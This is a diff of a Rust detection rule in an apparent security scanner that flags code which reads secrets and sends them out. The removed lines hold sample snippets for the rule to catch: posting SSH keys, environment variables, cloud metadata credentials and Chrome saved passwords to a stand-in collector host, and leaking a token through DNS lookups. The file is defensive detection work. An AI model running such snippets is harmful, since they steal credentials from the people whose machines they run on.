@@ -1,168 +1,24 @@
 //! source-credential-read-and-send: one file reads secrets and talks to the network.
 
 use std::collections::BTreeSet;
-use std::sync::LazyLock;
 
 use super::source_calls::{SourceFile, source_files, weighed};
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::code::sinks::{carried_out, sends, text_of};
 use capdex_evidence::code::{Argument, Call, TaintSources, is_issuer};
 use capdex_evidence::subject::Subject;
 use capdex_model::fact::{Confidence, Severity};
 
-/// See the file's first line.
-pub(super) struct SourceCredentialReadAndSend;
-
-static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));
-
-const CARD: &str = r##"
-id = "source-credential-read-and-send"
-version = 4
-title = "Secrets are read and something is sent"
-why = "Reading a key file or the whole environment beside a network call is how credentials leave a machine."
-fix = "Read only the variables that are needed, by name; leave key files to the programs that own them."
-cannot_see = "Secrets that come back from another file, and flows through code that it does not know: there it goes by how near reading and sending stand."
-severity = "critical"
-confidence = "high"
-kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
-lifecycle = "stable"
-cites = ["SAFE-T1502", "SAFE-T1503", "SAFE-T1913", "owasp-mcp:MCP01"]
-[codes]
-spiderrating = ["TS-E005", "TS-E008"]
-agentscore = ["sensitive_file_access"]
-[[examples.fires]]
-note = "A key file is posted."
-[examples.fires.files]
-"index.js" = '''
-import fs from "fs"; import os from "os"; import path from "path";
-const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
-fetch("https://collector.test/in", { method: "POST", body: key });'''
-[[examples.fires]]
-note = "The whole environment is posted."
-[examples.fires.files]
-"x.py" = '''
-import os, json, requests
-requests.post("https://collector.test", data=json.dumps(dict(os.environ)))
-'''
-[[examples.fires]]
-note = "One of many files, read in one function and sent in another."
-[examples.fires.files]
-"a.py" = '''
-import os, requests
-PATHS = ["~/.ssh/id_rsa", "~/.aws/credentials"]
-def gather():
-    found = {}
-    for path in PATHS:
-        with open(os.path.expanduser(path)) as f:
-            found[path] = f.read()
-    return found
-def main():
-    data = gather()
-    requests.post("https://collector.test", json=data)
-'''
-[[examples.fires]]
-note = "The environment over a request that is written to."
-[examples.fires.files]
-"a.js" = '''
-const https = require("https");
-const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
-const req = https.request({ hostname: "collector.test", method: "POST" });
-req.write(body); req.end();'''
-[[examples.fires]]
-note = "A token that a program hands out goes to a stranger."
-[examples.fires.files]
-"a.py" = '''
-import subprocess, requests
-token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
-requests.post("https://collector.test/in", data=token)
-'''
-[[examples.fires]]
-note = "What the machine's own service answers is posted."
-[examples.fires.files]
-"a.js" = '''
-const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
-await fetch("https://collector.test/in", { method: "POST", body: await r.text() });'''
-[[examples.fires]]
-note = "A key file is put into a store."
-[examples.fires.files]
-"a.py" = '''
-import boto3, os
-boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "kit", "k")
-'''
-[[examples.fires]]
-note = "A token in a name that is looked up."
-[examples.fires.files]
-"a.py" = '''
-import os, socket
-held = os.environ["SERVICE_TOKEN"].encode().hex()
-socket.gethostbyname(f"{held[:50]}.kit.test")
-'''
-[[examples.fires]]
-note = "A store of passwords is copied, opened and posted."
-[examples.fires.files]
-"a.py" = '''
-import os, shutil, sqlite3, requests
-shutil.copy(os.path.expanduser("~/.config/google-chrome/Default/Login Data"), "/tmp/copy.db")
-rows = sqlite3.connect("/tmp/copy.db").execute("select * from logins").fetchall()
-requests.post("https://collector.test/in", json=rows)
-'''
-[[examples.fires]]
-note = "The environment is handed to another file, which sends it."
-[examples.fires.files]
-"a.js" = 'const { report } = require("./net"); report({ ...process.env });'
-"net.js" = 'exports.report = (body) => fetch("https://collector.test/in", { method: "POST", body: JSON.stringify(body) });'
-[[examples.silent]]
-note = "The environment is handed to another file, which reads its settings from it."
-[examples.silent.files]
-"a.js" = 'const { settings } = require("./net"); const kit = settings(process.env);'
-"net.js" = 'exports.settings = (env) => ({ host: env.HOST }); exports.ask = () => fetch("https://api.test");'
-[[examples.silent]]
-note = "A token that goes back to who handed it out."
-[examples.silent.files]
-"a.py" = '''
-import subprocess, requests
-token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
-requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + token})
-'''
-[[examples.silent]]
-note = "One variable by name."
-[examples.silent.files]
-"index.js" = 'fetch("https://api.test", { headers: { Authorization: process.env.API_KEY } });'
-[[examples.silent]]
-note = "The environment is filtered and nothing is sent."
-[examples.silent.files]
-"index.js" = 'for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("APP_")) settings[k] = v; }'
-[[examples.silent]]
-note = "The environment for a child that downloads."
-[examples.silent.files]
-"index.js" = '''
-import { spawn } from "child_process";
-spawn("wget", ["https://files.test/a", "-O", "a"], { env: process.env });'''
-[[examples.silent]]
-note = "The environment for a child."
-[examples.silent.files]
-"index.js" = '''
-import { spawn } from "child_process";
-spawn("ls", { env: { ...process.env, A: "1" } });
-fetch("https://api.test");'''
-"##;
-
-impl Rule for SourceCredentialReadAndSend {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        report_handed(subject, facts);
-        for file in source_files(subject) {
-            let senders: Vec<&Call> = file.view.calls.iter().filter(|call| sends(call)).collect();
-            if report_flows(&file, facts) {
-                continue;
-            }
-            for call in &file.view.calls {
-                if let Some(whole) = reads_secret(call) {
-                    report(&file, call, &senders, whole, facts);
-                }
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    report_handed(subject, facts);
+    for file in source_files(subject) {
+        let senders: Vec<&Call> = file.view.calls.iter().filter(|call| sends(call)).collect();
+        if report_flows(&file, facts) {
+            continue;
+        }
+        for call in &file.view.calls {
+            if let Some(whole) = reads_secret(call) {
+                report(&file, call, &senders, whole, facts);
             }
         }
     }
